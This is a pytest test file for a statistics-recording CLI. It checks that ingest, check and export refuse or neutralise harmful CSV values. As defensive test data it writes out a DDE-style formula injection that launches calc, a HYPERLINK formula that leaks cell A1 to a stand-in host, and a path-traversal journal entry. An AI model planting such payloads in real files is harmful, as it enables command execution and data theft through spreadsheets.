"""Nothing harmful gets in (issue 26): digits other than ASCII, numbers too long to hold, control
characters, duplicated columns and spreadsheet formulas are refused by ``scr check`` and by
``scr ingest`` with file, line and field; whatever ``scr check`` passes, ``load``, ``scr export``
and ``scr cite`` read; and a bad path or file is a one-line message with its exit code, never a
traceback. Every test works on a copy of data/."""

from __future__ import annotations

import csv
import hashlib
import io
import os
from pathlib import Path

import pytest

from scrlib.cli import main
from scrlib.record import ingest, lock
from scrlib.record.load import load
from scrlib.record.problems import DataError
from scrlib.record.validate import MAX_DIGITS

FIXTURES = Path(__file__).parent / "fixtures" / "ees"
NEW = (FIXTURES / "sin-nature-2027-test-values.csv").read_text(encoding="utf-8")
ADDRESS = "https://explore-education-statistics.service.gov.uk/data-catalogue/data-set/test/csv"
FIG = "cypnow-commissioned-fy2012-13"  # value 81, from CYP Now
SRC = "stowe-scrs-on-the-rise"
EVT = "ofsted-evaluation-ends"
TOTAL_2027 = "2027,Reporting year,Total,National,E92000001,England,Total,Total,Total,300"


def _digest(folder: Path) -> dict[str, str]:
    return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.iterdir())}


def _set(folder: Path, file: str, key: str, field: str, value: str) -> int:
    """Set one field of the row whose first column is ``key``; return the row's line."""
    path = folder / file
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
    index = next(i for i, r in enumerate(rows) if r[0] == key)
    rows[index][rows[0].index(field)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    path.write_text(out.getvalue(), encoding="utf-8")
    return index + 1


def _ingest(tmp_path: Path, folder: Path, text: str, *extra: str) -> int:
    path = tmp_path / "release.csv"
    path.write_bytes(text.encode("utf-8"))
    return main(["ingest", str(path), "--dataset", "sin-nature", "--release",
                 "Reporting year 2027", "--address", ADDRESS, "--data", str(folder),
                 "--published", "2027-07-01", "--accessed", "2027-07-02", *extra])


def _line_of(text: str, row: str) -> int:
    return text.splitlines().index(row) + 1


# -- 1 and 3: what scr check refuses, load never meets -------------------------------------

CHECK_CASES = [
    ("fullwidth digits", "figures.csv", FIG, "value", "\uff18\uff11"),
    ("Arabic-Indic digits", "figures.csv", FIG, "value", "\u0668\u0661"),
    ("400 digits", "figures.csv", FIG, "value", "8" * 400),
    ("5,000 digits (over Python's int limit)", "figures.csv", FIG, "value", "8" * 5000),
    ("a NUL in a value", "figures.csv", FIG, "value", "8\x001"),
    ("a NUL in an excerpt", "figures.csv", FIG, "excerpt",
     "compared with 2012/13, when 81 were\x00 commissioned and 31 published."),
    ("a tab inside a note", "figures.csv", FIG, "note", "one\ttwo"),
    ("a line break inside a title", "sources.csv", SRC, "title", "Serious case\nreviews"),
    ("Arabic-Indic digits in an event date", "events.csv", EVT, "date",
     "\u0662\u0660\u0661\u0662-07"),
    ("fullwidth digits in a period", "figures.csv", FIG, "period",
     "FY\uff12\uff10\uff11\uff12-13"),
    ("a year pandas cannot hold", "figures.csv", FIG, "period", "FY0001-02"),
    ("a year out of range in a date", "sources.csv", SRC, "date_published", "0999-01-01"),
]


@pytest.mark.parametrize(("name", "file", "key", "field", "value"), CHECK_CASES,
                         ids=[c[0] for c in CHECK_CASES])
def test_check_refuses_with_file_line_and_field_what_load_could_not_read(
        data_copy, capsys, name, file, key, field, value):
    line = _set(data_copy, file, key, field, value)
    assert main(["check", "--data", str(data_copy)]) == 4
    out = capsys.readouterr().out
    assert f"{data_copy / file}:{line}: {field}: " in out, out
    assert len(out) < 2000  # a 5,000-digit value is not echoed whole
    with pytest.raises(DataError):
        load(data_copy)
    for command in (["export", "--output", str(data_copy.parent / "out.csv")], ["cite"]):
        assert main([*command, "--data", str(data_copy)]) == 4  # a message, not a crash


def test_the_digit_bound_is_stated_and_a_value_at_it_is_taken(data_copy, capsys):
    _set(data_copy, "figures.csv", FIG, "value", "1" * (MAX_DIGITS + 1))
    assert main(["check", "--data", str(data_copy)]) == 4
    assert f"has {MAX_DIGITS + 1} digits; a value has at most {MAX_DIGITS}" in (
        capsys.readouterr().out)
    value = "1" * MAX_DIGITS
    _set(data_copy, "figures.csv", FIG, "value", value)
    _set(data_copy, "figures.csv", FIG, "excerpt", f"when {value} were commissioned")
    from scrlib.record.validate import read_dataset

    problems = read_dataset(data_copy)[1]
    assert [p for p in problems if "digits" in p.message or "does not contain" in p.message] == []


# -- 1, 2, 3 and 6 in ingest ---------------------------------------------------------------

ROW = TOTAL_2027.rsplit(",", 4)[0]  # up to the filters breakdown_topic, breakdown, nature
INGEST_CASES = [
    ("fullwidth digits", f"{ROW},Total,Total,Total,\uff13\uff10\uff10", "number_notifications",
     "neither a number nor a known symbol"),
    ("Arabic-Indic digits", f"{ROW},Total,Total,Total,\u0664\u0662", "number_notifications",
     "neither a number nor a known symbol"),
    ("400 digits", f"{ROW},Total,Total,Total,{'9' * 400}", "number_notifications",
     f"has 400 digits; a value has at most {MAX_DIGITS}"),
    ("5,000 digits", f"{ROW},Total,Total,Total,{'9' * 5000}", "number_notifications",
     f"has 5000 digits; a value has at most {MAX_DIGITS}"),
    ("a NUL", f"{ROW},Total,Total,Total,30\x000", "number_notifications",
     "control character U+0000"),
    ("a formula", f"{ROW},Total,Total,Total,\"=1+2*cmd|' /C calc'!A0\"", "number_notifications",
     "begins with '=', as a spreadsheet formula does"),
    ("a formula in another column", TOTAL_2027.replace(",England,", ",@SUM(1),"),
     "country_name", "begins with '@'"),
    ("a plus", TOTAL_2027.replace(",England,", ",+44,"), "country_name", "begins with '+'"),
    ("a negative count", f"{ROW},Total,Total,Total,-5", "number_notifications", "negative"),
    ("a fraction of a count", f"{ROW},Total,Total,Total,12.5", "number_notifications",
     "not a whole number"),
]


@pytest.mark.parametrize(("name", "row", "field", "expected"), INGEST_CASES,
                         ids=[c[0] for c in INGEST_CASES])
def test_ingest_refuses_a_harmful_value_at_its_file_line_and_column(
        tmp_path, data_copy, capsys, name, row, field, expected):
    text = NEW.replace(TOTAL_2027, row)
    assert text != NEW
    before = _digest(data_copy)
    assert _ingest(tmp_path, data_copy, text) == 4
    err = capsys.readouterr().err
    assert f"{tmp_path / 'release.csv'}:{_line_of(text, row)}: {field}: " in err, err
    assert expected in err and "data/ is unchanged" in err
    assert len(err) < 2000
    assert _digest(data_copy) == before


def test_a_duplicated_column_name_is_refused_at_line_1(tmp_path, data_copy, capsys):
    lines = NEW.splitlines()
    text = "\n".join([lines[0] + ",number_notifications"]
                     + [f"{line},{line.rsplit(',', 1)[1]}" for line in lines[1:]]) + "\n"
    before = _digest(data_copy)
    assert _ingest(tmp_path, data_copy, text) == 4
    err = capsys.readouterr().err
    assert f"{tmp_path / 'release.csv'}:1: number_notifications: column name duplicated" in err
    assert _digest(data_copy) == before


def test_a_time_period_out_of_range_is_named_at_its_line(tmp_path, data_copy, capsys):
    row = TOTAL_2027.replace("2027,", "0000,", 1)
    text = NEW.replace(TOTAL_2027, row)
    assert _ingest(tmp_path, data_copy, text) == 4
    assert f"release.csv:{_line_of(text, row)}: time_period: '0000'" in capsys.readouterr().err


def test_a_bad_accessed_or_published_date_is_a_usage_error(tmp_path, data_copy, capsys):
    before = _digest(data_copy)
    assert _ingest(tmp_path, data_copy, NEW, "--accessed", "2026-13-01") == 2
    assert "--accessed: '2026-13-01' is not a real date" in capsys.readouterr().err
    assert _ingest(tmp_path, data_copy, NEW, "--published", "\u0662\u0660\u0662\u0667") == 2
    assert "--published: " in capsys.readouterr().err
    assert _digest(data_copy) == before


def test_a_problem_found_only_in_the_staged_tables_is_named_at_the_input_row(
        tmp_path, data_copy, capsys):
    """Two mapping rows feed sin-total from one release: the second figure repeats the first's
    id. The final check finds it in the staged figures.csv; the message names the release's
    row it came from, not a line of a copy or data:0."""
    mapping = data_copy / "ees-mapping.csv"
    lines = mapping.read_text(encoding="utf-8").splitlines()
    second = next(line for line in lines if "Child death" in line and line.startswith("sin-nature"))
    lines.append(second.replace(",sin-deaths,", ",sin-total,"))
    mapping.write_text("\n".join(lines) + "\n", encoding="utf-8")
    before = _digest(data_copy)
    assert _ingest(tmp_path, data_copy, NEW) == 4
    err = capsys.readouterr().err
    first = err.splitlines()[0]
    prefix = f"scr ingest: {tmp_path / 'release.csv'}:"
    assert first.startswith(prefix), err
    line = int(first.removeprefix(prefix).split(":")[0])
    assert line >= 2 and "Child death" in NEW.splitlines()[line - 1]
    assert "(as figures.csv " in first and ":0:" not in first
    assert _digest(data_copy) == before


# -- 6: export neutralises formulas; --raw keeps them --------------------------------------

def _cells(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_export_neutralises_cells_a_spreadsheet_would_run_and_raw_keeps_them(
        data_copy, tmp_path, capsys, start):
    formula = f"{start}HYPERLINK(\"http://example.org/?\"&A1,\"click\")"
    _set(data_copy, "sources.csv", SRC, "title", formula)
    _set(data_copy, "figures.csv", FIG, "note", f"{start}1+2")
    assert main(["check", "--data", str(data_copy)]) == 0
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert main(["export", "--output", str(safe), "--data", str(data_copy)]) == 0
    assert main(["export", "--output", str(raw), "--raw", "--data", str(data_copy)]) == 0
    safe_rows, raw_rows = _cells(safe), _cells(raw)
    titles = {r["title"] for r in safe_rows if r["source_id"] == SRC}
    assert titles == {"'" + formula}
    assert {r["title"] for r in raw_rows if r["source_id"] == SRC} == {formula}
    for s, r in zip(safe_rows, raw_rows, strict=True):
        for column, value in r.items():
            if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert s[column] == "'" + value
            else:
                assert s[column] == value  # nothing else changes
    assert not any(v[:1] in "=+-@\t\r" and v for row in safe_rows for v in row.values())


def test_export_help_says_how_cells_are_neutralised(capsys):
    with pytest.raises(SystemExit):
        main(["export", "--help"])
    out = " ".join(capsys.readouterr().out.split())
    assert "single quote" in out and "--raw" in out and "formula" in out


# -- 7: one line and an exit code, never a traceback ----------------------------------------

def test_check_of_a_file_instead_of_a_folder_says_so(data_copy, capsys):
    assert main(["check", "--data", str(data_copy / "figures.csv")]) == 4
    out = capsys.readouterr().out
    assert f"{data_copy / 'figures.csv'}:0: -: not a data folder (a file)" in out


@pytest.mark.parametrize("command", [["check"], ["cite"], ["export", "--output", "x.csv"],
                                     ["datapackage"]])
def test_a_table_that_is_a_folder_is_named(data_copy, tmp_path, capsys, monkeypatch, command):
    monkeypatch.chdir(tmp_path)
    (data_copy / "figures.csv").unlink()
    (data_copy / "figures.csv").mkdir()
    assert main([*command, "--data", str(data_copy)]) == 4
    captured = capsys.readouterr()
    assert f"{data_copy / 'figures.csv'}:0: -: a folder, not a file" in captured.out + captured.err


def test_export_to_a_folder_is_a_usage_error(data_copy, tmp_path, capsys):
    assert main(["export", "--output", str(tmp_path), "--data", str(data_copy)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "is a folder" in err


@pytest.mark.parametrize(("text", "expected"), [
    ("{not json", ":1: -: not an ingest journal (not JSON"),
    ('{"figures.csv": 1}', ":1: -: not an ingest journal (expected a list"),
    ('[["../../escape", "figures.csv"]]', ":1: -: not an ingest journal (expected a list"),
    ('[[".figures.csv.ingest-12", "series.csv"]]', ":1: -: not an ingest journal"),
    ('["a", "b"]', ":1: -: not an ingest journal"),
])
def test_a_corrupt_journal_is_named_by_finish_and_by_ingest(tmp_path, data_copy, capsys, text,
                                                           expected):
    journal = data_copy / ingest.JOURNAL
    journal.write_text(text, encoding="utf-8")
    before = _digest(data_copy)
    assert main(["ingest", "--finish", "--data", str(data_copy)]) == 4
    err = capsys.readouterr().err
    assert f"{journal}{expected}" in err and err.count("\n") == 1
    assert _ingest(tmp_path, data_copy, NEW) == 4
    assert f"{journal}{expected}" in capsys.readouterr().err
    assert main(["check", "--data", str(data_copy)]) == 4
    assert _digest(data_copy) == before


def test_ingest_into_a_folder_holding_only_the_mapping_is_refused(tmp_path, capsys):
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / "ees-mapping.csv").write_bytes(_mapping_bytes())
    before = _digest(folder)
    assert _ingest(tmp_path, folder, NEW) == 4
    err = capsys.readouterr().err
    assert f"{folder / 'sources.csv'}:0: -: missing file" in err
    assert "fails scr check before this ingest" in err
    assert _digest(folder) == before


def _mapping_bytes() -> bytes:
    from scrlib.record.paths import data_dir

    return (data_dir() / "ees-mapping.csv").read_bytes()


def test_finish_on_a_missing_folder_is_refused_and_creates_nothing(tmp_path, capsys):
    assert main(["ingest", "--finish", "--data", str(tmp_path / "none" / "data")]) == 4
    assert "not a data folder (no such folder)" in capsys.readouterr().err
    assert not (tmp_path / "none").exists()


# -- 9: each command's own words -------------------------------------------------------------

def test_a_busy_ingest_does_not_offer_an_option_it_lacks(tmp_path, data_copy, capsys):
    with lock.hold(data_copy, log=lambda *_: None):  # another writer holds data/
        assert _ingest(tmp_path, data_copy, NEW) == 4
    err = capsys.readouterr().err
    assert f"pid {os.getpid()}" in err and "did not start" in err
    assert "--wait" not in err and ingest.BUSY_HINT in err


def test_the_report_keeps_its_wait_hint(tmp_path):
    target = tmp_path / "report"
    with lock.hold(target, log=lambda *_: None), pytest.raises(lock.Busy, match="--wait SECONDS"):
        with lock.hold(target, log=lambda *_: None):
            pass
